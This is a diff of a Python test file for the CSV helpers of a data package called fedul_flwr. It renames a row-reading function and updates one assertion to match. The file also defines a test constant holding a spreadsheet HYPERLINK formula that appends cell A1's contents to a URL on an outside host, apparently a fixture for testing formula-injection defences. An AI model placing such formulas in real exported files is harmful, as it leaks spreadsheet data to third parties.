@@ -11,9 +11,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from fedul_flwr.data.columns import Column, Columns
-from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_csv_rows, write_cell
+from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_rows, write_cell
 from fedul_flwr.data.encode import encode
-from fedul_flwr.data.local_data import load_unlabeled_sets, read_rows
+from fedul_flwr.data.local_data import load_unlabeled_sets
 from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.sources import load_source
 from fedul_flwr.data.table_files import read_table
@@ -158,7 +158,7 @@ def test_a_point_that_nothing_explains_is_refused_beside_a_decimal_comma(tmp_pat
 def test_rows_keep_texts_that_tables_take_as_missing(end: str, tmp_path: Path) -> None:
     (tmp_path / "labels.csv").write_text(f"name,label{end}\nNA,null{end}\na,{end}\n")
     rows = [["name", "label"], ["NA", "null"], ["a", ""]]
-    assert read_csv_rows(tmp_path / "labels.csv") == (rows, "")
+    assert read_rows(tmp_path / "labels.csv") == (rows, ())
 
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
